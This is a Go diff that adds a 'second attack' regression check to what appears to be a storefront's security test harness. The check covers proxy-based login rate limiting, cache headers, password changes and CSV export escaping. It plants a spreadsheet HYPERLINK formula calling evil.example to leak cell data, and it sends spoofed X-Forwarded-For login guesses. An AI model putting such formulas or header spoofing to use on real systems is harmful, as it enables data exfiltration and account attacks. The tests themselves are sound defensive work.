@@ -100,7 +100,8 @@ func run(bin, addr string, keep bool) error {
 		return err
 	}
 	defer logf.Close()
-	a.server = exec.Command(bin, "serve", "--db", a.dbPath, "--addr", addr, "--train-every", "0")
+	// 127.0.0.9 plays the reverse proxy of docs/scaling.md (second attack).
+	a.server = exec.Command(bin, "serve", "--db", a.dbPath, "--addr", addr, "--train-every", "0", "--trusted-proxies", proxyAddr)
 	a.server.Env = append(os.Environ(), "STOREFRONT_METRICS_TOKEN="+a.metrics)
 	a.server.Stdout, a.server.Stderr = logf, logf
 	if err := a.server.Start(); err != nil {
@@ -128,6 +129,7 @@ func run(bin, addr string, keep bool) error {
 	a.redirects()
 	a.csvFormulas()
 	a.alsoSeen()
+	a.secondAttack()
 	if a.failed > 0 {
 		return fmt.Errorf("%d check(s) failed", a.failed)
 	}
@@ -145,9 +147,17 @@ func (a *attack) makeKeys() error {
 	if a.apiKey, _, err = db.CreateAPIKey(ctx, "attack", "attack all", models.ScopeAll); err != nil {
 		return err
 	}
-	a.evKey, _, err = db.CreateAPIKey(ctx, "attack", "attack events", models.ScopeEvents)
-	return err
+	if a.evKey, _, err = db.CreateAPIKey(ctx, "attack", "attack events", models.ScopeEvents); err != nil {
+		return err
+	}
+	// A supplier's title that is a spreadsheet formula (second attack).
+	return db.W.Model(&models.Product{}).Where("external_id = ?", "SKU-10002").Update("title", catalogFormula).Error
 }
+
+// proxyAddr is the reverse proxy's address the server is told to trust.
+const proxyAddr = "127.0.0.9"
+
+const catalogFormula = `=HYPERLINK("//evil.example/?"&A2,"Tent")`
 
 func (a *attack) waitReady() error {
 	deadline := time.Now().Add(60 * time.Second)
@@ -487,6 +497,77 @@ func (a *attack) alsoSeen() {
 		res.Body.Close()
 		a.check("/metrics with the token served", res.StatusCode == http.StatusOK, "%d", res.StatusCode)
 	}
+}
+
+// The second attack (4 December 2026).
+func (a *attack) secondAttack() {
+	// High: behind the reverse proxy every client was the proxy's address,
+	// so one client's wrong passwords made every shopper's login wait.
+	proxy := a.client(proxyAddr)
+	tok := proxy.token("/login")
+	via := func(client string) map[string]string { return map[string]string{"X-Forwarded-For": client} }
+	refused := 0
+	for i := range 15 {
+		res, _ := proxy.postWith("/login", url.Values{"_csrf": {tok}, "email": {shopperEmail(50 + i)}, "password": {"guess"}}, via("203.0.113.66"))
+		if res.StatusCode == http.StatusTooManyRequests {
+			refused++
+		}
+	}
+	victim := a.client(proxyAddr)
+	res, _ := victim.postWith("/login", url.Values{"_csrf": {victim.token("/login")}, "email": {shopperEmail(70)}, "password": {seed.ShopperPassword}}, via("198.51.100.7"))
+	a.check("behind the proxy one client's guesses leave others' logins", refused > 0 && res.StatusCode == http.StatusSeeOther,
+		"attacker refused %d of 15; another client through the proxy: %d", refused, res.StatusCode)
+
+	// Medium: pages with a shopper's orders and address had no cache header.
+	shopper := a.client("127.0.5.1")
+	shopper.login("/login", shopperEmail(71), seed.ShopperPassword) // the demo shopper was deleted above
+	res, _ = shopper.get("/orders")
+	a.check("a signed-in shopper's orders are not cached", res.StatusCode == 200 && strings.Contains(strings.Join(res.Header.Values("Cache-Control"), ","), "no-store"),
+		"%d Cache-Control %q", res.StatusCode, res.Header.Values("Cache-Control"))
+
+	// Medium: shoppers could not change their password at all; staff could
+	// without the current one.
+	res, _ = shopper.get("/account/password")
+	a.check("a shopper can change their password", res.StatusCode == 200, "/account/password: %d", res.StatusCode)
+	admin := a.client("127.0.5.2")
+	if s := admin.staffLogin(seed.DemoAdminEmail); s != http.StatusSeeOther {
+		a.check("admin logs in", false, "%d", s)
+		return
+	}
+	taken := "taken over by the attacker"
+	res, _ = admin.post("/admin/password", url.Values{"_csrf": {admin.token("/admin/password")}, "password": {taken}, "confirm": {taken}})
+	a.check("an open admin session cannot set a new password", res.StatusCode == http.StatusUnprocessableEntity, "without the current password: %d", res.StatusCode)
+
+	// Low: the catalog export wrote a supplier's formula raw.
+	res, body := admin.get("/admin/catalog.csv")
+	recs, _ := csv.NewReader(strings.NewReader(body)).ReadAll()
+	bad, seen := 0, false
+	for _, rec := range recs {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				bad++
+			}
+			seen = seen || strings.Contains(cell, "HYPERLINK")
+		}
+	}
+	a.check("catalog CSV holds no live formula", res.StatusCode == 200 && seen && bad == 0,
+		"CSV %d with %d rows, formula title present: %t, unguarded cells: %d", res.StatusCode, len(recs), seen, bad)
+}
+
+// postWith is post with extra headers.
+func (c *client) postWith(path string, form url.Values, header map[string]string) (*http.Response, string) {
+	req, _ := http.NewRequest(http.MethodPost, c.a.base+path, strings.NewReader(form.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	for k, v := range header {
+		req.Header.Set(k, v)
+	}
+	res, err := c.hc.Do(req)
+	if err != nil {
+		return &http.Response{StatusCode: 0, Header: http.Header{}}, err.Error()
+	}
+	defer res.Body.Close()
+	b, _ := io.ReadAll(res.Body)
+	return res, string(b)
 }
 
 func firstLine(s string, n int) string {
